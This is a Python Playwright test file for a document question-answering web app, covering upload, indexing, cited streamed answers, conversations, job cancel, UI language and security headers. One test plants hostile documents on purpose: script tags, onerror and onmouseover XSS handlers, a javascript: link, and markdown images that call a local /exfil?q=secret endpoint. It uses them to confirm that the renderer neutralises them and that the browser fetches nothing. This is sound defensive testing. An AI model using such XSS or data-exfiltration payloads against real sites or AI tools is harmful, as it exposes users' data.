"""The web app in a real browser: upload, indexed status, streamed cited answer, source panel,
conversations, safe rendering of hostile documents, job cancel, UI language.

The tests share one server (module scope) and run in file order: the PDF uploaded first is what
the later questions are answered from.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from .conftest import ADMIN, ROOT, Server, new_page, screenshot, sign_in

EXAMPLES = ROOT / "examples"
QUESTION = "How many days of paid annual leave do full-time employees get?"

pytestmark = pytest.mark.timeout(600)


def expect(obj: Any) -> Any:
    from playwright.sync_api import expect as _expect

    return _expect(obj)


def no_errors(page: Any) -> None:
    errors = [e for e in page.console_errors if "Content-Security-Policy" in e or "Refused" in e or "Error" in e]
    assert not errors, errors


def ask(page: Any, question: str) -> Any:
    page.fill("#composer-input", question)
    with page.expect_response(re.compile(r"/api/v1/conversations/\d+/messages$")) as resp:
        page.press("#composer-input", "Enter")
    assert resp.value.headers["content-type"].startswith("text/event-stream"), "the answer is not streamed (SSE)"
    body = resp.value.request.post_data_json
    assert body["stream"] is True and body["mode"] == page.locator("#mode-select").input_value()
    answer = page.locator(".msg-assistant").last
    expect(answer).not_to_have_class(re.compile(r"\bstreaming\b"), timeout=120_000)
    return answer


def test_upload_pdf_reaches_indexed(page: Any, server: Server) -> None:
    page.goto("/#/documents")
    expect(page.locator("#view-documents")).to_be_visible()
    page.set_input_files("#file-input", str(EXAMPLES / "employee-handbook.pdf"))
    upload = page.locator(".upload-file[data-name='employee-handbook.pdf']")
    expect(upload).to_be_visible()
    row = page.locator("tr.doc-row[data-document='upload:employee-handbook.pdf']")
    expect(row.locator(".badge")).to_have_attribute("data-status", "indexed", timeout=120_000)
    expect(row.locator(".badge")).to_have_text("Indexed")
    expect(row.locator(".quality")).to_contain_text("pages")
    expect(upload.locator(".badge")).to_have_attribute("data-status", "indexed")
    expect(page.locator(".job").first).to_have_attribute("data-status", "done")
    # a few more documents so the list shows several formats and one failure
    page.set_input_files("#file-input", [str(EXAMPLES / n) for n in ("product-faq.html", "politique-teletravail-fr.docx",
                                                                      "release-notes.md", "travel-expenses.xlsx")])
    expect(page.locator("tr.doc-row[data-document='upload:product-faq.html'] .badge")).to_have_attribute(
        "data-status", "indexed", timeout=120_000)
    server.wait_jobs_idle()
    page.click("#docs-refresh")
    expect(page.locator("tr.doc-row")).to_have_count(5)
    no_errors(page)
    page.set_viewport_size({"width": 1360, "height": 980})
    screenshot(page, "documents")


def test_streamed_answer_with_citation_opens_source_panel(page: Any, server: Server) -> None:
    server.wait_embedded()
    page.goto("/")
    expect(page.locator("#ai-notice")).to_be_visible()
    expect(page.locator("#ai-notice")).to_contain_text("AI system")
    answer = ask(page, QUESTION)
    expect(answer.locator(".badge-ai")).to_have_text("AI-generated")
    expect(answer.locator(".msg-body")).to_contain_text("25 days")
    expect(answer.locator(".msg-foot")).to_contain_text("Model")
    chip = answer.locator(".msg-body .cite[data-n='1']")
    expect(chip).to_be_visible()
    chip.click()
    panel = page.locator("#source-panel")
    expect(panel).to_be_visible()
    expect(panel).to_have_attribute("data-page", "3")
    expect(page.locator("#source-page")).to_contain_text("Page 3")
    expect(page.locator("#source-title")).to_contain_text("Employee Handbook")
    mark = page.locator("#source-text mark.passage")
    expect(mark).to_contain_text("25 days")
    assert len(page.locator("#source-text").inner_text()) > len(mark.inner_text()), "the passage is shown in its page text"
    link = page.locator("#source-open")
    expect(link).to_have_attribute("href", re.compile(r"^/api/v1/documents/\d+/file#page=3$"))
    r = server.http.get(server.url + link.get_attribute("href").split("#")[0])
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    # the conversation is in the sidebar, titled by its first question
    expect(page.locator(".conv-item.active .conv-open")).to_have_text(QUESTION)
    no_errors(page)
    screenshot(page, "chat")
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    expect(chip).to_be_focused()


def test_conversation_rename_export_delete(page: Any, server: Server) -> None:
    page.goto("/")
    item = page.locator(".conv-item").first
    expect(item).to_be_visible()
    item.hover()
    item.locator(".conv-rename").click()
    page.fill(".conv-rename-input", "Leave policy")
    page.press(".conv-rename-input", "Enter")
    expect(page.locator(".conv-item").first.locator(".conv-open")).to_have_text("Leave policy")
    conv_id = page.locator(".conv-item").first.get_attribute("data-id")
    assert server.http.get(f"{server.url}/api/v1/conversations/{conv_id}").json()["title"] == "Leave policy"
    page.locator(".conv-item").first.locator(".conv-open").click()
    expect(page.locator(".msg-assistant")).to_have_count(1)
    expect(page.locator(".msg-assistant .badge-ai")).to_be_visible()
    href = page.locator(".conv-item").first.locator(".conv-export").get_attribute("href")
    export = server.http.get(server.url + href)
    assert export.status_code == 200 and "25 days" in export.text and "AI-generated" in export.text
    page.once("dialog", lambda d: d.accept())
    page.locator(".conv-item").first.locator(".conv-delete").click()
    expect(page.locator(".conv-item")).to_have_count(0)
    expect(page.locator("#ai-notice")).to_be_visible()


def _hostile_markdown(port: int) -> bytes:
    return (
        "# Falcon programme\n\n"
        "The secret launch codename of the falcon programme is BLUEHERON. "
        "<script>window.__pwned=1</script>\n\n"
        f"![x](http://127.0.0.1:{port}/exfil?q=secret)\n\n"
        f"<img src=\"http://127.0.0.1:{port}/exfil?q=img\" onerror=\"window.__pwned=2\">\n\n"
        "The falcon programme codename BLUEHERON must never be shared <b onmouseover=\"window.__pwned=3\">outside</b>.\n"
    ).encode()


def test_hostile_document_never_executes_or_fetches(page: Any, server: Server) -> None:
    r = server.http.post(server.url + "/api/v1/documents", files=[
        ("files", ("falcon.md", _hostile_markdown(server.port), "text/markdown")),
        ("files", ("falcon.html", b"<html><body><p>The falcon programme budget is 12 million.</p>"
                   b"<script>window.__pwned=4</script><img src=\"/exfil?q=html\"></body></html>", "text/html"))])
    assert r.status_code == 202, r.text
    server.wait_jobs_idle()
    server.wait_embedded()
    page.goto("/")
    answer = ask(page, "What is the secret launch codename of the falcon programme?")
    expect(answer.locator(".msg-body")).to_contain_text("BLUEHERON")
    for chip in answer.locator(".cite").all():  # document text rendered in the source panel too
        chip.click()
        expect(page.locator("#source-text")).not_to_contain_text("Loading")
    ask(page, "What is the falcon programme budget?")
    # the same hostile text straight through the renderer, as a model might write it
    page.evaluate("""async (port) => {
        const md = await import('/static/markdown.js');
        const box = document.createElement('div'); box.id = 'md-probe';
        box.appendChild(md.renderMarkdown(
          '![x](http://127.0.0.1:' + port + '/exfil?q=secret) <script>window.__pwned=5</script>\\n\\n' +
          '<img src=x onerror="window.__pwned=6"> [click](javascript:window.__pwned=7) [ext](https://example.org/x) ' +
          '[inside](/api/v1/status) **bold** [1]', {citations: new Map()}));
        document.body.appendChild(box);
    }""", server.port)
    probe = page.locator("#md-probe")
    expect(probe).to_contain_text("![x](http://127.0.0.1:")
    expect(probe).to_contain_text("<script>window.__pwned=5</script>")
    assert probe.locator("img, script, iframe").count() == 0
    assert probe.locator("a").count() == 1 and probe.locator("a").get_attribute("href").endswith("/api/v1/status")
    assert probe.locator("strong").inner_text() == "bold"
    page.wait_for_timeout(500)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("#messages img, #messages script, #source-panel img, #source-panel script").count() == 0
    assert not [p for p in server.paths if p.startswith("/exfil")], "the browser fetched /exfil"
    no_errors(page)


def _slow_batch(tmp: Path, n: int) -> list[str]:
    paths = []
    filler = " ".join(f"Paragraph {{i}} sentence {k} of the archived operating procedure, kept for reference." for k in range(60))
    for i in range(n):
        p = tmp / f"archive-{i:02d}.md"
        p.write_text("\n\n".join(f"# Section {s} of file {i}\n\n" + filler.format(i=i * 100 + s) for s in range(40)))
        paths.append(str(p))
    return paths


def test_cancel_job(page: Any, server: Server, tmp_path: Path) -> None:
    server.wait_jobs_idle()
    page.goto("/#/documents")
    page.set_input_files("#file-input", _slow_batch(tmp_path, 12))
    job = page.locator(".upload-group").first
    expect(job).to_have_attribute("data-job", re.compile(r"\d+"), timeout=60_000)
    job_id = job.get_attribute("data-job")
    card = page.locator(f".job[data-id='{job_id}']")
    card.locator(".job-cancel").click()
    expect(card).to_have_attribute("data-status", "cancelled", timeout=120_000)
    expect(card.locator(".badge")).to_have_text("Cancelled")
    data = server.http.get(f"{server.url}/api/v1/jobs/{job_id}").json()
    assert data["status"] == "cancelled"
    reached = [rep for rep in data["reports"] if rep["status"] == "indexed"]
    assert len(reached) < 12, "the job finished before the cancel took effect"
    expect(page.locator(".upload-group").first.locator(".upload-file").last).to_contain_text("Not processed")
    # the index stays consistent: every listed document is searchable or reported, nothing half-written
    h = server.http.get(server.url + "/healthz").json()
    assert h["status"] == "ok"
    no_errors(page)


def test_reingest_and_delete_from_the_list(page: Any, server: Server) -> None:
    server.wait_jobs_idle()
    page.goto("/#/documents")
    row = page.locator("tr.doc-row[data-document='upload:release-notes.md']")
    expect(row).to_be_visible()
    row.locator(".doc-reingest").click()
    reingest = page.locator(".job").first
    expect(reingest.locator(".job-title")).to_have_text("Re-ingestion")
    expect(reingest).to_have_attribute("data-status", "done", timeout=60_000)
    expect(row.locator(".badge")).to_have_attribute("data-status", "indexed")
    page.once("dialog", lambda d: d.accept())
    row.locator(".doc-delete").click()
    expect(row).to_have_count(0)
    listed = server.http.get(server.url + "/api/v1/documents").json()["documents"]
    assert "upload:release-notes.md" not in {d["document"] for d in listed}
    no_errors(page)


def test_ui_language_follows_the_browser(browser: Any, server: Server) -> None:
    for locale, chat, send, ai, signin in (("fr-FR", "Discussion", "Envoyer", "Généré par IA", "Se connecter"),
                                           ("de-DE", "Chat", "Senden", "KI-generiert", "Anmelden"),
                                           ("ja-JP", "チャット", "送信", "AI 生成", "サインイン")):
        pg = new_page(browser, server, locale)
        ctx = pg.context
        pg.goto("/")
        expect(pg.locator("html")).to_have_attribute("lang", locale[:2])
        if server.auth:  # the sign-in screen speaks the browser's language too
            expect(pg.locator("#auth-submit")).to_have_text(signin)
        sign_in(pg, server, *ADMIN)
        expect(pg.locator("#tab-chat")).to_have_text(chat)
        expect(pg.locator("#send")).to_have_text(send)
        assert pg.evaluate("JSON.parse(document.getElementById('i18n-data').textContent).messages.ai_generated") == ai
        if locale == "fr-FR":
            expect(pg.locator("#ai-notice")).to_contain_text("système d'IA")
            expect(pg.locator("#tab-documents")).to_have_text("Documents")
            pg.goto("/#/documents")
            expect(pg.locator("#pick-files")).to_have_text("Choisir des fichiers")
            expect(pg.locator("#doc-rows .badge").first).to_have_text(re.compile("Indexé|Échec|Inchangé"))
        ctx.close()


def test_language_negotiation() -> None:
    from souverain.web.ui import negotiate

    assert negotiate("fr-CH, fr;q=0.9, en;q=0.8") == "fr"
    assert negotiate("es-ES, de;q=0.7, en;q=0.9") == "en"
    assert negotiate("es-ES, de;q=0.7") == "de"
    assert negotiate("ja") == "ja" and negotiate("") == "en" and negotiate("xx, *;q=0.1") == "en"
    assert negotiate("fr-FR", override="de") == "de" and negotiate("fr-FR", override="zz") == "fr"


def test_security_headers_and_no_inline_code(server: Server) -> None:
    r = server.http.get(server.url + "/", headers={"Accept-Language": "fr-CH, fr;q=0.9, en;q=0.8"})
    csp = r.headers["content-security-policy"]
    assert "default-src 'self'" in csp and "unsafe-inline" not in csp
    assert r.headers["content-language"] == "fr"
    html = r.text
    assert "<script>" not in html and "<style" not in html, "inline script or style element"
    assert not re.search(r"\son[a-z]+\s*=", html), "inline event handler"
    assert not re.search(r"\sstyle\s*=", html), "inline style attribute"
    assert "http://" not in html and "https://" not in html
    for name in ("app.js", "chat.js", "documents.js", "markdown.js", "api.js", "i18n.js", "ui.js", "auth.js", "admin.js",
                 "share.js", "app.css"):
        asset = server.http.get(f"{server.url}/static/{name}")
        assert asset.status_code == 200, name
        assert "innerHTML" not in asset.text and "insertAdjacentHTML" not in asset.text and "outerHTML" not in asset.text
        assert "http://" not in asset.text and "https://" not in asset.text, name
